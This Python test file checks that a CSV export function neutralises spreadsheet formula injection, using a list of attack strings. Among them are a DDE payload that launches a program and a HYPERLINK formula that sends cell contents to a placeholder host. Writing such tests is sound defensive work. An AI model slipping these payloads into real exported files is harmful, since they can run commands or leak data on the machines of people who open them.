"""No cell of a file starts a formula, whatever was typed and however the file is read."""

from __future__ import annotations

import csv
import io
import unicodedata
from itertools import product

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from locator.exchange import spreadsheet

STARTERS = "=+-@"
DASHES = "\u2212\u2013\u2014"
DELIMITERS = (",", ";", "|", "\t")
ATTACKS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹦1+1",
    "\u22121+1",
    '"=1+1',
    '";=1+1',
    '",=1+1',
    "Lunch;=1+1",
    "Lunch,=1+1",
    "Lunch\t=1+1",
    "Lunch|=1+1",
    'Lunch";\t=1+1',
    "Lunch\r\n=1+1",
    "Lunch\u2028=1+1",
    "'=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example?"&A1,"Press")',
    "@@=1",
    '""=1+1',
]


def cells(content: bytes) -> set[str]:
    """Every cell that any program could see: at any separator, with quotes understood or not."""
    text = content.decode("utf-8-sig")
    found: set[str] = set()
    for delimiter, quoting in product(DELIMITERS, (csv.QUOTE_MINIMAL, csv.QUOTE_NONE)):
        reader = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter, quoting=quoting)
        found |= {cell for row in reader for cell in row}
    return found


def begins_a_formula(cell: str) -> bool:
    """Whether a program that skips quotes, white space and what cannot be seen would find a formula."""
    seen = cell.lstrip('"')
    while seen and (seen[0].isspace() or unicodedata.category(seen[0]) in ("Cf", "Cc")):
        seen = seen[1:].lstrip('"')
    return unicodedata.normalize("NFKC", seen)[:1] in (*STARTERS, *DASHES) if seen else False


@pytest.mark.parametrize("attack", ATTACKS, ids=ascii)
def test_an_attack_is_shown_and_not_run(attack: str) -> None:
    content = spreadsheet.written(["Name"], [[attack], ["before", attack], [attack, "after"]])
    assert not [cell for cell in cells(content) if begins_a_formula(cell)]


PIECES = st.one_of(
    st.sampled_from([*STARTERS, *DASHES, *"＝＋－＠", *DELIMITERS, '"', "'", " ", "\r", "\n", "\u200b", "a", "1"]),
    st.characters(exclude_categories=("Cs",)),
)


@example(rows=[["=1+1"]])
@given(rows=st.lists(st.lists(st.text(PIECES, max_size=12), min_size=1, max_size=4), max_size=4))
def test_no_cell_starts_a_formula_however_the_file_is_read(rows: list[list[str]]) -> None:
    assert not [cell for cell in cells(spreadsheet.written(["Name"], rows)) if begins_a_formula(cell)]


@given(st.text())
def test_what_is_defused_stays_as_it_is(text: str) -> None:
    once = spreadsheet.defused(text)
    assert spreadsheet.defused(once) == once


@pytest.mark.parametrize(
    "text", ["Lunch Club", "Self-help", "Monday - Friday", "10 + 2", "£3.50", "a@example.org", "", "Café “Blether”"]
)
def test_plain_words_stay_as_they_are(text: str) -> None:
    assert spreadsheet.defused(text) == text


def test_the_file_has_a_header_a_byte_order_mark_and_one_line_for_each_row() -> None:
    content = spreadsheet.written(["Name", "Count"], [["Blether\nCafé", 3], ['The "Shed"', 0]])
    assert content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert rows == [["Name", "Count"], ["Blether Café", "3"], ['The "Shed"', "0"]]
